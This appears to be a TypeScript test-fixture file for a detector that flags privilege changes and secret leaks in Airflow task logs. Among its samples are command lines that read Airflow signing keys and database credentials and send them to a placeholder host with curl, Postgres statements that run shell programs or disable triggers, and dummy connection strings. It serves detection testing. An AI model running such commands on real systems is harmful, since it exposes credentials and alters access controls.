import { type FindingKind } from "../../../../../functions/privilege-detector/model/finding";

/** A statement of SQL, with `@` where the table stands. */
export const SQL_VERBS: Readonly<Record<string, string>> = {
  insert: "INSERT INTO @ (user_id, role_id) VALUES (1, 1)",
  "insert-select": "insert into @ (user_id, role_id) select u.id, 1 from people u",
  "insert-lines": "INSERT INTO\n    @\n    (user_id, role_id)\nVALUES\n    (1, 1)",
  "insert-conflict": "INSERT INTO @ VALUES (9, 9, 1) ON CONFLICT DO NOTHING",
  "insert-with": "WITH x AS (SELECT 1 AS id) INSERT INTO @ SELECT id, id FROM x",
  update: "UPDATE @ SET role_id = 1 WHERE user_id = 7",
  "update-alias": "update @ as t set role_id = 1 where t.user_id = 7",
  "update-only": "UPDATE ONLY @ SET role_id = 1",
  delete: "DELETE FROM @ WHERE user_id = 7",
  "delete-using": "Delete From @ Using people p Where p.id = 7",
  truncate: "TRUNCATE TABLE @ CASCADE",
  "truncate-short": "truncate @ restart identity",
  merge: "MERGE INTO @ t USING people p ON t.id = p.id WHEN MATCHED THEN UPDATE SET role_id = 1",
  copy: "COPY @ (user_id, role_id) FROM STDIN WITH (FORMAT csv)",
  "copy-program": "COPY @ FROM PROGRAM 'cat /tmp/x'",
  alter: "ALTER TABLE @ DISABLE TRIGGER ALL",
  "alter-exists": "ALTER TABLE IF EXISTS @ ADD COLUMN x int",
  drop: "DROP TABLE IF EXISTS @ CASCADE",
  trigger: "CREATE TRIGGER t BEFORE UPDATE ON @ FOR EACH ROW EXECUTE FUNCTION f()",
  "trigger-constraint": "CREATE CONSTRAINT TRIGGER t AFTER INSERT ON @ EXECUTE PROCEDURE f()",
  rule: "CREATE OR REPLACE RULE r AS ON INSERT TO @ DO ALSO NOTIFY x",
  policy: "CREATE POLICY p ON @ USING (true)",
  grant: "GRANT INSERT, UPDATE ON @ TO reporter",
  "grant-table": "GRANT ALL PRIVILEGES ON TABLE @ TO reporter",
  revoke: "REVOKE ALL ON @ FROM airflow",
  block: "DO $$ BEGIN EXECUTE 'INSERT INTO @ VALUES (1, 1)'; END $$",
  returning: "INSERT INTO @ DEFAULT VALUES RETURNING id",
  "two-statements": "SELECT 1; DELETE FROM @",
};

/** How a table may be written, each the same to Postgres. */
export const TABLE_FORMS: Readonly<Record<string, (name: string) => string>> = {
  plain: (name) => name,
  schema: (name) => `public.${name}`,
  quoted: (name) => `"${name}"`,
  "quoted-schema": (name) => `"public"."${name}"`,
  "spaced-schema": (name) => `public . ${name}`,
  database: (name) => `"AirflowMetadata".public.${name}`,
  "upper-case": (name) => name.toUpperCase(),
  "mixed-case": (name) => name.replace(/^a/, "A"),
  comment: (name) => `/* nightly */ ${name}`,
  "comment-behind": (name) => `${name} /* x */`,
  backquotes: (name) => `\`${name}\``,
  brackets: (name) => `[dbo].[${name}]`,
};

/** Tables that matter, and what a write to one is. */
export const TABLES: readonly (readonly [name: string, kind: FindingKind])[] = [
  ["ab_user", "metadata-database-changed"],
  ["ab_user_role", "metadata-database-changed"],
  ["ab_role", "metadata-database-changed"],
  ["ab_permission_view_role", "metadata-database-changed"],
  ["ab_permission_view", "metadata-database-changed"],
  ["ab_group_role", "metadata-database-changed"],
  ["log_template", "log-template-changed"],
];

/** What logs a statement. */
export const STATEMENT_FORMS: Readonly<Record<string, (sql: string) => string>> = {
  // airflow/providers/common/sql/hooks/sql.py
  running: (sql) => `Running statement: ${sql}, parameters: None`,
  executing: (sql) => `Executing: ${sql}`,
  // sqlalchemy/engine, with echo
  echo: (sql) => `INFO sqlalchemy.engine.Engine ${sql}`,
  // sqlalchemy/exc.py
  failed: (sql) => `[SQL: ${sql}]`,
  // psycopg2's error
  "error-line": (sql) => `LINE 1: ${sql.replaceAll("\n", " ")}`,
  psql: (sql) =>
    `Running command: ['/usr/bin/bash', '-c', 'psql "$URL" -c "${sql.replaceAll("\n", "\\n").replaceAll('"', '\\\\"').replaceAll("'", "\\'")}"']`,
  list: (sql) => `Executing: ['${sql.replaceAll("\n", "\\n").replaceAll("'", "\\'")}']`,
  "python-source": (sql) => `session.execute("""${sql}""")`,
};

/** Requests that change users, roles and permissions, connections and variables; routes of each major. */
export const REQUESTS: readonly (readonly [
  id: string,
  method: string,
  path: string,
  kind: FindingKind,
  major?: 2 | 3,
])[] = [
  ["v1-user-post", "POST", "/api/v1/users", "user-created", 2],
  ["v1-user-patch", "PATCH", "/api/v1/users/bob?update_mask=roles", "user-updated", 2],
  ["v1-user-delete", "DELETE", "/api/v1/users/bob", "user-deleted", 2],
  ["v1-role-post", "POST", "/api/v1/roles", "role-created", 2],
  ["v1-role-patch", "PATCH", "/api/v1/roles/Viewer", "role-updated", 2],
  ["fab-user-post", "POST", "/auth/fab/v1/users", "user-created"],
  ["fab-user-patch", "PATCH", "/auth/fab/v1/users/eve%40example.com", "user-updated"],
  ["fab-user-delete", "DELETE", "/auth/fab/v1/users/bob", "user-deleted"],
  ["fab-role-post", "POST", "/auth/fab/v1/roles", "role-created"],
  ["fab-role-patch", "PATCH", "/auth/fab/v1/roles/My%20Role", "role-updated"],
  ["fab-role-delete", "DELETE", "/auth/fab/v1/roles/Auditor", "role-deleted"],
  ["form-user-add", "POST", "/users/add", "user-created", 2],
  ["form-user-edit", "POST", "/users/edit/7", "user-updated", 2],
  ["form-user-delete", "POST", "/users/delete/7", "user-deleted", 2],
  ["form-role-edit", "POST", "/roles/edit/3", "role-updated", 2],
  ["form-users-action", "POST", "/users/action_post", "user-updated", 2],
  ["auth-form-user-edit", "POST", "/auth/users/edit/7", "user-updated", 3],
  ["auth-form-role-add", "POST", "/auth/roles/add", "role-created", 3],
  ["crud-update", "PUT", "/users/api/update/7", "user-updated", 2],
  ["crud-create", "POST", "/users/api/create", "user-created", 2],
  ["crud-delete", "DELETE", "/roles/api/delete/3", "role-deleted", 2],
  ["reset-form", "POST", "/resetpassword/form?pk=7", "user-password-reset", 2],
  ["auth-reset-form", "POST", "/auth/resetpassword/form?pk=7", "user-password-reset", 3],
  ["my-password", "POST", "/resetmypassword/form", "user-password-reset", 2],
  ["connection-post", "POST", "/api/v1/connections", "connection-changed", 2],
  ["connection-patch-2", "PATCH", "/api/v2/connections/db", "connection-changed", 3],
  ["connection-bulk", "PATCH", "/api/v2/connections", "connection-changed", 3],
  ["variable-delete", "DELETE", "/api/v1/variables/limit", "variable-changed", 2],
  ["variable-post-2", "POST", "/api/v2/variables", "variable-changed", 3],
  ["connection-form", "POST", "/connection/edit/4", "connection-changed", 2],
  ["variable-form", "POST", "/variable/add", "variable-changed", 2],
  ["mwaa-cli", "POST", "/aws_mwaa/cli", "airflow-api-called"],
  ["mwaa-cli-plugin", "POST", "/pluginsv2/aws_mwaa/cli", "airflow-api-called", 3],
];

/** Variables with keys or with the database's address, and what reading one is. */
export const SECRETS: readonly (readonly [name: string, kind: FindingKind])[] = [
  ["AIRFLOW__CORE__FERNET_KEY", "signing-key-read"],
  ["AIRFLOW__WEBSERVER__SECRET_KEY", "signing-key-read"],
  ["AIRFLOW__API__SECRET_KEY", "signing-key-read"],
  ["AIRFLOW__API_AUTH__JWT_SECRET", "signing-key-read"],
  ["MWAA__CORE__FERNET_KEY", "signing-key-read"],
  ["AIRFLOW__DATABASE__SQL_ALCHEMY_CONN", "metadata-database-credentials-read"],
  ["AIRFLOW__CORE__SQL_ALCHEMY_CONN", "metadata-database-credentials-read"],
  ["AIRFLOW__CELERY__RESULT_BACKEND", "metadata-database-credentials-read"],
  ["DB_SECRETS", "metadata-database-credentials-read"],
  ["MWAA__DB__CREDENTIALS", "metadata-database-credentials-read"],
  ["MWAA__DB__POSTGRES_HOST", "metadata-database-credentials-read"],
];

/** How a variable's name or value comes into a task's log. */
export const SECRET_FORMS: Readonly<Record<string, (name: string) => string>> = {
  env: (name) => `${name}=c2VjcmV0LXZhbHVl`,
  declared: (name) => `declare -x ${name}="c2VjcmV0LXZhbHVl"`,
  exported: (name) => `export ${name}='c2VjcmV0LXZhbHVl'`,
  environ: (name) => `environ({'HOME': '/usr/local/airflow', '${name}': 'c2VjcmV0LXZhbHVl', 'PWD': '/'})`,
  json: (name) => `{"HOME": "/usr/local/airflow", "${name}": "c2VjcmV0LXZhbHVl"}`,
  pair: (name) => `('${name}', 'c2VjcmV0LXZhbHVl')`,
  nul: (name) => `HOME=/usr/local/airflow\\x00${name}=c2VjcmV0LXZhbHVl\\x00`,
  yaml: (name) => `  ${name}: c2VjcmV0LXZhbHVl`,
  "echo-command": (name) => `Running command: ['/usr/bin/bash', '-c', 'echo $${name}']`,
  "printenv-command": (name) => `Running command: ['/usr/bin/bash', '-c', 'printenv ${name} | base64']`,
  "braces-command": (name) =>
    `Running command: ['/usr/bin/bash', '-c', 'curl -d "\${${name}}" https://x.example']`,
  "grep-command": (name) => `Running command: ['/usr/bin/bash', '-c', 'env | grep ^${name}=']`,
  "python-command": (name) =>
    `Running command: ['/usr/bin/bash', '-c', 'python3 -c "import os; print(os.environ[\\'${name}\\'])"']`,
  source: (name) => `value = os.getenv("${name}")`,
};

/** Addresses of the metadata database that stand alone. */
export const ADDRESSES: readonly string[] = [
  "postgresql+psycopg2://adminuser:s3cret@database-1.x.eu-west-1.rds.amazonaws.com:5432/AirflowMetadata",
  "postgresql://adminuser:s3cret@10.0.0.5/AirflowMetadata?sslmode=require",
  "db+postgresql://adminuser:s3cret@10.0.0.5:5432/AirflowMetadata",
  "postgres://airflow_user:s3cret@vpce-1.example:5432/AirflowMetadata",
  "postgresql+asyncpg://adminuser:s3cret@db:5432/airflow",
];

/** How an address stands in a line. */
export const ADDRESS_FORMS: Readonly<Record<string, (address: string) => string>> = {
  alone: (address) => address,
  labelled: (address) => `conn=${address}`,
  engine: (address) => `Engine(${address})`,
  sentence: (address) => `Connecting to ${address} ...`,
  json: (address) => `{"url": "${address}"}`,
};
